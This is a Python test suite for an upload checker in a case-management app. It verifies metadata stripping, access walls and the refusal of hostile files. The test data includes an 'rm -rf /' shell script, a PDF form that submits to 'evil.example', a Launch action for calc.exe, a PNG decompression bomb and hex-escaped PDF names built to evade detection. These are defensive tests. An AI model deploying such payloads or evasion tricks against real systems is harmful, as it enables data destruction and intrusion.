"""Files are known by their content; hostile ones are refused, pictures lose what they carry along, walls hold."""

import io
import struct
import zlib

import pikepdf
import pytest
from PIL import Image
from tests.cast import TODAY

from kotopolku.audit.acting import acting_as
from kotopolku.audit.clock import database_now
from kotopolku.audit.errors import Invalid, NotFound
from kotopolku.letters.access import file_for
from kotopolku.letters.actions import erase, remove_file, store_file
from kotopolku.letters.checking import checked
from kotopolku.letters.codes import JPEG, MOST_FILE_BYTES, PDF, PNG
from kotopolku.letters.models import File, Letter
from kotopolku.people.models import Person

PLACE = "60.4866 N 22.1673 E"  # where a picture was taken


def picture(kind="JPEG", *, size=(40, 20), **options):
    out = io.BytesIO()
    Image.new("RGB", size, "orange").save(out, kind, **options)
    return out.getvalue()


def pdf(change=lambda document: None, **saving):
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    out = io.BytesIO()
    document.save(out, **saving)
    return out.getvalue()


def refused(data):
    with pytest.raises(Invalid) as fault:
        checked(data)
    assert fault.value.field == "file"
    return str(fault.value.message)


# -- erasure


def test_erasing_a_person_deletes_their_files_and_letters_and_nobody_elses(officer, system, person_of):
    rana, other = person_of(officer), person_of(officer)
    with acting_as(officer, on=TODAY):
        for one in (rana, other):
            store_file(person_id=one, data=pdf())
    with acting_as(system, on=TODAY):
        letter(rana)
        letter(other)
        # when
        erase(person_id=rana)
        # then
        assert [file.person_id for file in File.objects.all()] == [other]
        assert [one.person_id for one in Letter.objects.all()] == [other]


def letter(person):
    return Letter.objects.create(
        area_id="raisio", controller_id=Person.objects.get(pk=person).controller_id, person_id=person,
        way="letter", recipient="person", template="x", language="fi", subject="x", body="x", state="waiting",
        next_try_at=database_now(), created_at=database_now(),
    )  # fmt: skip


# -- pictures ---------------------------------------------------------------------------------------------------


def test_a_picture_loses_where_it_was_taken_and_whatever_hangs_behind_it():
    exif = Image.Exif()
    exif[0x010E] = PLACE
    data = picture(exif=exif) + b"PK\x03\x04 hidden archive"
    assert PLACE.encode() in data
    # when
    kept = checked(data)
    # then it is the same picture without the rest
    assert kept.kind == JPEG
    assert PLACE.encode() not in kept.data
    assert b"hidden archive" not in kept.data
    image = Image.open(io.BytesIO(kept.data))
    assert (image.size, dict(image.getexif())) == ((40, 20), {})


def test_a_picture_that_lies_on_its_side_is_stood_up():
    exif = Image.Exif()
    exif[0x0112] = 6
    assert Image.open(io.BytesIO(checked(picture(exif=exif)).data)).size == (20, 40)


def test_the_words_in_a_png_are_gone_and_it_stays_see_through():
    from PIL.PngImagePlugin import PngInfo

    words, out = PngInfo(), io.BytesIO()
    words.add_text("Comment", PLACE)
    Image.new("RGBA", (3, 3), (1, 2, 3, 0)).save(out, "PNG", pnginfo=words)
    kept = checked(out.getvalue())
    assert kept.kind == PNG
    assert PLACE.encode() not in kept.data
    assert Image.open(io.BytesIO(kept.data)).getpixel((0, 0))[3] == 0


def bomb():
    """A PNG of a few hundred bytes that says it is 30,000 by 30,000 pixels."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def test_a_decompression_bomb_is_refused_before_it_is_drawn():
    assert len(bomb()) < 1000
    assert refused(bomb())


@pytest.mark.slow
def test_a_picture_of_too_many_pixels_is_refused_with_what_to_do():
    assert "pikseleitä" in refused(picture("PNG", size=(8000, 5001)))


@pytest.mark.parametrize("cut", [4, 30, 200])
def test_a_broken_picture_is_refused(cut):
    assert refused(picture()[:cut])


def test_a_web_page_that_begins_like_a_picture_is_drawn_as_one_or_refused():
    assert refused(b"\xff\xd8\xff<script>alert(1)</script>")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<!doctype html><script>alert(1)</script>",
        b"PK\x03\x04" + b"\0" * 100,
        b"MZ" + b"\0" * 100,
        b"GIF89a" + b"\0" * 100,
        b"#!/bin/sh\nrm -rf /",
    ],
    ids=["nothing", "svg", "html", "zip or docx", "exe", "gif", "script"],
)
def test_other_kinds_are_refused_whatever_they_are_called(data):
    assert refused(data)


def test_a_file_that_is_too_large_is_refused():
    assert "20" in refused(b"%PDF-1.7\n" + b"\0" * MOST_FILE_BYTES)


# -- PDF --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("packed", [False, True])
def test_a_plain_pdf_is_kept_to_the_letter(packed):
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    data = pdf(object_stream_mode=mode)
    assert checked(data) == checked(data)
    assert (checked(data).kind, checked(data).data) == (PDF, data)


def with_script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_launch(document):
    document.pages[0].Annots = [
        document.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 1, 1],
                A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"),
            )
        )
    ]


def with_file(document):
    document.attachments["x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def with_form_that_sends_itself(document):
    document.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example")
    )


@pytest.mark.parametrize("change", [with_script, with_launch, with_file, with_form_that_sends_itself])
@pytest.mark.parametrize("packed", [False, True], ids=["plain", "in object streams"])
def test_a_pdf_that_acts_is_refused_wherever_it_hides_that(change, packed):
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    assert "PDF" in refused(pdf(change, object_stream_mode=mode))


def test_a_name_spelled_in_numbers_is_read():
    data = pdf(with_script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    hidden = (
        data.replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS", b"/#4aS")
        .replace(b"/OpenAction", b"/Op#65nAction")
    )
    assert b"/JavaScript" not in hidden
    assert refused(hidden)


def test_a_locked_or_cut_off_pdf_is_refused():
    assert "salasana" in refused(pdf(encryption=pikepdf.Encryption(owner="x", user="y")))
    assert refused(pdf()[:-40])


def test_a_pdf_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr("kotopolku.letters.checking.MOST_UNPACKED", 1_000_000)

    def large(document):
        document.pages[0].Contents = pikepdf.Stream(document, b" " * 2_000_000)

    data = pdf(large, compress_streams=True)
    assert len(data) < 20_000
    assert refused(data)


# -- kept under the walls ---------------------------------------------------------------------------------------


@pytest.fixture
def kept(officer, person_of):
    person = person_of(officer)
    with acting_as(officer, on=TODAY):
        return store_file(person_id=person, data=picture("PNG"))


def test_a_file_is_read_by_the_duties_of_its_client_and_by_no_other(
    kept, officer, colleague, neighbour, stranger
):
    for actor in (officer, colleague):
        with acting_as(actor, on=TODAY):
            assert bytes(file_for(kept).data).startswith(b"\x89PNG")
    for actor in (neighbour, stranger):
        with pytest.raises(NotFound), acting_as(actor, on=TODAY):
            file_for(kept)


def test_a_file_is_not_taken_in_for_somebody_elses_client(neighbour, officer, person_of):
    person = person_of(officer)
    with pytest.raises(NotFound), acting_as(neighbour, on=TODAY):
        store_file(person_id=person, data=picture())


def test_a_removed_file_is_gone(kept, officer):
    with acting_as(officer, on=TODAY):
        remove_file(file_id=kept)
        assert File.objects.count() == 0
